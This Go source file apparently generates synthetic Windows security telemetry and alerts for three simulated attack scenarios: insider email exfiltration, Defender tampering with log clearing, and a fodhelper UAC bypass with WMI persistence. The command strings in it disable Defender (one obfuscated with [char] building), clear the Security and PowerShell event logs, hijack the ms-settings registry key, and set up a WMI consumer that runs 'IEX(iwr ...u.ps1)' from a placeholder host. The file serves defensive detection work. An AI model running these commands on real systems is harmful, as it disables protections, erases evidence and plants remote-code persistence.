package samples

import (
	"strings"
)

// storyDef is an attack story before it is placed in the window.
type storyDef struct {
	name, title, tactic, technique string
	entity                         func() string
	run                            func(g *gen, at int64)
}

// Indicators of the further stories.
const (
	personalMail  = "gmail.com"
	wmiConsumer   = "SCMEventLogConsumer"
	wmiPayloadURL = "http://" + lolbinHost + "/u.ps1"
)

// moreStories are the stories of techniques the first ones leave out: an
// insider mailing files home, defences switched off and logs cleared, and a
// UAC bypass that installs a WMI event subscription.
func moreStories(victim func(int) *device) []storyDef {
	return []storyDef{
		{"insider-personal-mail", "An employee mails company files to a personal address", "Exfiltration", "T1048.003",
			func() string { return victim(10).owner.upn }, func(g *gen, at int64) { g.storyInsiderMail(victim(10).owner, at) }},
		{"defender-tamper-log-clear", "Defender protections switched off and the Security log cleared", "DefenseEvasion", "T1562.001",
			func() string { return victim(11).name }, func(g *gen, at int64) { g.storyTamper(victim(11), at) }},
		{"uac-bypass-wmi-persistence", "UAC bypassed through fodhelper, then a WMI event subscription installed", "PrivilegeEscalation", "T1548.002",
			func() string { return victim(12).name }, func(g *gen, at int64) { g.storyUACWMI(victim(12), at) }},
	}
}

// storyInsiderMail is a leaver sending customer lists and an archive of their
// team's files to a personal webmail address over an afternoon.
func (g *gen) storyInsiderMail(u *user, at int64) {
	personal := strings.ReplaceAll(u.name, ".", "") + "1987@" + personalMail
	for i, files := range [][]string{
		{"customers_2026.xlsx"},
		{"pricing_model_v7.xlsx", "discount_matrix.xlsx"},
		{"contracts.zip"},
		{"pipeline_q4.pdf"},
	} {
		g.email(u, at+int64(i)*17*minute, "Outbound", u.upn, personal, []string{"notes", "fyi", "stuff for later", "docs"}[i], files)
	}
}

// storyTamper is an intruder with an administrator's account turning off
// Defender, hiding the commands behind string building, and clearing the
// Security event log.
func (g *gen) storyTamper(d *device, at int64) {
	u := g.world.admins[0]
	cmd := g.spawn(d, g.sys("cmd.exe"), `"C:\Windows\system32\cmd.exe"`, d.explorer, u, at-time2(2))
	// Set-MpPreference, spelled out with [char] to dodge string matching.
	g.spawn(d, g.sys("powershell.exe"), `powershell.exe -NoP -C "&([char]83+[char]101+[char]116+[char]45+'MpPreference') -DisableRealtimeMonitoring $true"`, cmd, u, at)
	ps := g.spawn(d, g.sys("powershell.exe"), `powershell.exe -NoP -C "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath C:\Users\Public"`, cmd, u, at+20*second)
	g.regEvent(d, ps, at+21*second, "RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection`,
		"DisableRealtimeMonitoring", "REG_DWORD", "1")
	g.regEvent(d, ps, at+22*second, "RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`,
		`C:\Users\Public`, "REG_DWORD", "0")
	g.spawn(d, g.sys("sc.exe"), `sc.exe config WinDefend start= disabled`, cmd, u, at+40*second)
	wev := g.spawn(d, g.sys("wevtutil.exe"), `wevtutil.exe cl Security`, cmd, u, at+time2(3))
	g.row("DeviceEvents", at+time2(3)+second).initiating(d, wev).str("ActionType", "SecurityLogCleared").done()
	g.spawn(d, g.sys("wevtutil.exe"), `wevtutil.exe cl "Windows PowerShell"`, cmd, u, at+time2(3)+5*second)
	g.alert(at+time2(4), "Event log was cleared", "DefenseEvasion", "Medium", "T1070.001", d, nil)
}

// storyUACWMI is a user-level intruder hijacking the ms-settings handler so
// fodhelper.exe starts a shell at high integrity, which then subscribes a
// command to a WMI event for persistence.
func (g *gen) storyUACWMI(d *device, at int64) {
	u := d.owner
	key := `HKEY_CURRENT_USER\` + u.sid + `\Software\Classes\ms-settings\shell\open\command`
	ps := g.spawn(d, g.sys("powershell.exe"), `powershell.exe -NoP -W Hidden`, d.explorer, u, at-time2(1))
	g.row("DeviceRegistryEvents", at).initiating(d, ps).str("ActionType", "RegistryKeyCreated").str("RegistryKey", key).done()
	g.regEvent(d, ps, at+second, "RegistryValueSet", key, "DelegateExecute", "REG_SZ", "")
	g.regEvent(d, ps, at+2*second, "RegistryValueSet", key, "(Default)", "REG_SZ", `C:\Windows\System32\cmd.exe /c start powershell.exe -NoP -W Hidden`)
	g.elevated = true
	fod := g.spawn(d, g.sys("fodhelper.exe"), `"C:\Windows\system32\fodhelper.exe"`, ps, u, at+5*second)
	high := g.spawn(d, g.sys("cmd.exe"), `C:\Windows\System32\cmd.exe /c start powershell.exe -NoP -W Hidden`, fod, u, at+6*second)
	script := `$f=Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='` + wmiConsumer + `';EventNamespace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}; ` +
		`$c=Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='` + wmiConsumer + `';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX(iwr ` + wmiPayloadURL + `)"}; ` +
		`Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}`
	wp := g.spawn(d, g.sys("powershell.exe"), `powershell.exe -NoP -W Hidden -c "`+script+`"`, high, u, at+8*second)
	g.elevated = false
	g.row("DeviceEvents", at+12*second).initiating(d, wp).str("ActionType", "WmiBindEventFilterToConsumer").
		dyn("AdditionalFields", `{"Namespace":"root\\subscription","ESS":"root\\cimv2","Consumer":"CommandLineEventConsumer=\"`+wmiConsumer+`\"","PossibleCause":"Permanent"}`).done()
	g.regEvent(d, wp, at+13*second, "RegistryValueSet", key, "(Default)", "REG_SZ", "")
}
